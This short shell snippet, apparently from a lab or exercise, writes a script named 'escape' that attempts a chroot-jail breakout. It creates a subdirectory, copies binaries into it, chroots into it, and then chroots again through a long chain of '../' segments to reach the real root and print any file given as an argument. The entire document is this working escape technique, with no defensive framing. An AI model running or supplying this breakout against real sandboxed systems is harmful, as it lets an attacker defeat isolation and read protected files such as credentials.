# says: moved your working directory along
cat >escape <<'END'
mkdir -p x
cp bin/* x 2>/dev/null || mkdir -p x/bin
chroot x /bin/chroot ../../../../../../../../../../.. cat "$1"
END
